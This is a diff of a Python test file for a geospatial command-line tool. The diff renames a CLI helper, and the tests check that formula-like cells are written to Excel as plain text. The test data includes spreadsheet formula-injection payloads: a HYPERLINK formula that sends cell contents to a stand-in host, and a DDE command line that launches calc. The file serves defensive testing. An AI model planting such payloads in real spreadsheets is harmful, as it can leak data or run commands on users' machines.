@@ -16,7 +16,7 @@ import pytest
 
 from gzspatial import excel
 
-from ..conftest import run_cli
+from ..conftest import invoke_cli
 
 PREFIXES = ["=", "+", "-", "@", "\t=", "\r=", " =", "\t", "\r"]
 BODIES = ['HYPERLINK("http://example.invalid/?x="&A1,"open")', "cmd|' /C calc'!A0", "1+1", "SUM(1,2)*3"]
@@ -107,7 +107,7 @@ def test_join_writes_formula_like_cells_as_text(folder, kind):
     frame = _frame()
     source = _input(folder, kind, frame)
     out = folder / "out.xlsx"
-    result = run_cli("join", str(source), "-o", str(out), "--crs", "wgs84", "--quiet")
+    result = invoke_cli("join", str(source), "-o", str(out), "--crs", "wgs84", "--quiet")
     assert result.returncode == 0, result.stderr.decode()
     assert sorted(p.name for p in folder.iterdir()) == sorted([source.name, "out.xlsx"])
     _assert_text_only(out)
@@ -126,7 +126,7 @@ def test_formula_like_headers_stay_text(folder):
     source = _input(folder, "csv", frame)
     for command in (["join", str(source), "--crs", "wgs84", "--quiet"], ["convert", str(source), "--from", "wgs84"]):
         out = folder / f"{command[0]}.xlsx"
-        result = run_cli(*command, "-o", str(out))
+        result = invoke_cli(*command, "-o", str(out))
         assert result.returncode == 0, result.stderr.decode()
         _assert_text_only(out)
         assert list(_columns(out))[: len(headers)] == [_stored(h) for h in headers]
@@ -136,7 +136,7 @@ def test_convert_writes_formula_like_cells_as_text(folder):
     frame = _frame()
     source = _input(folder, "xlsx", frame)
     out = folder / "out.xlsx"
-    result = run_cli("convert", str(source), "--from", "gcj02", "--to", "wgs84", "-o", str(out))
+    result = invoke_cli("convert", str(source), "--from", "gcj02", "--to", "wgs84", "-o", str(out))
     assert result.returncode == 0, result.stderr.decode()
     assert f"converted {len(frame)} rows" in result.stderr.decode()
     _assert_text_only(out)
@@ -150,10 +150,10 @@ def test_stats_category_values_reach_headers_as_text(folder, lang):
     frame = _frame().assign(category=PAYLOADS)
     source = _input(folder, "csv", frame)
     joined = folder / "joined.csv"
-    assert run_cli("join", str(source), "-o", str(joined), "--crs", "wgs84", "--quiet").returncode == 0
+    assert invoke_cli("join", str(source), "-o", str(joined), "--crs", "wgs84", "--quiet").returncode == 0
     out = folder / "stats.xlsx"
-    result = run_cli("stats", str(joined), "--by", "core", "--by", "district", "--category", "category",
-                     "--lang", lang, "-o", str(out))  # fmt: skip
+    result = invoke_cli("stats", str(joined), "--by", "core", "--by", "district", "--category", "category",
+                        "--lang", lang, "-o", str(out))  # fmt: skip
     assert result.returncode == 0, result.stderr.decode()
     _assert_text_only(out)
     prefix = "数量：" if lang == "zh" else "count:"
@@ -191,7 +191,7 @@ def test_cells_that_do_not_fit_are_refused_before_writing(folder, cell, message,
         if command == "join"
         else ["convert", str(source), "--from", "wgs84"]
     )
-    result = run_cli(*args, "-o", str(out))
+    result = invoke_cli(*args, "-o", str(out))
     stderr = result.stderr.decode()
     assert result.returncode == 2 and len(stderr.strip().splitlines()) == 1, stderr
     assert f"row 3, column 'name', {message}" in stderr and ".csv or .parquet" in stderr
@@ -204,10 +204,11 @@ def test_a_cell_of_exactly_the_limit_goes_through_whole(folder):
     cell = "广" * excel.MAX_CELL_CHARS
     source = _input(folder, "csv", pd.DataFrame({"name": [cell], "lon": ["113.3245"], "lat": ["23.1066"]}))
     out = folder / "out.xlsx"
-    assert run_cli("join", str(source), "-o", str(out), "--crs", "wgs84", "--quiet").returncode == 0
+    assert invoke_cli("join", str(source), "-o", str(out), "--crs", "wgs84", "--quiet").returncode == 0
     assert _columns(out)["name"] == [cell]
 
 
+@pytest.mark.large
 @pytest.mark.parametrize("command", ["join", "convert"])
 def test_too_many_rows_for_a_sheet_is_refused(folder, command):
     """1,048,576 data rows + the header do not fit a sheet: refused, nothing written (join: before joining)."""
@@ -219,7 +220,7 @@ def test_too_many_rows_for_a_sheet_is_refused(folder, command):
         if command == "join"
         else ["convert", str(source), "--from", "wgs84"]
     )
-    result = run_cli(*args, "-o", str(out))
+    result = invoke_cli(*args, "-o", str(out))
     stderr = result.stderr.decode()
     assert result.returncode == 2 and len(stderr.strip().splitlines()) == 1, stderr
     assert "1,048,576 rows do not fit in an Excel sheet" in stderr and "write .csv or .parquet instead" in stderr
